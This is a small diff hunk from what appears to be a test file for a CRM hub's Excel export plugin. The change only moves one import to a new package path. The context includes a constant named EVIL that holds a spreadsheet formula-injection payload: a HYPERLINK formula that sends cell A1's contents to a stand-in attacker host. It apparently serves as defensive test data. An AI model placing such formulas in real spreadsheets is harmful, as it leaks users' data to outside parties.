@@ -12,9 +12,9 @@ from excel_workbooks import write_xlsx
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
 
+from crm_hub_plugins.excel.records import XLSX_MEDIA_TYPE, export_from_hub
 from hub.core.events import ClientKey, ClientObservation, InteractionObservation, SourceRef
 from hub.web.app import create_app
-from plugins.excel.records import XLSX_MEDIA_TYPE, export_from_hub
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Нажми")'
 
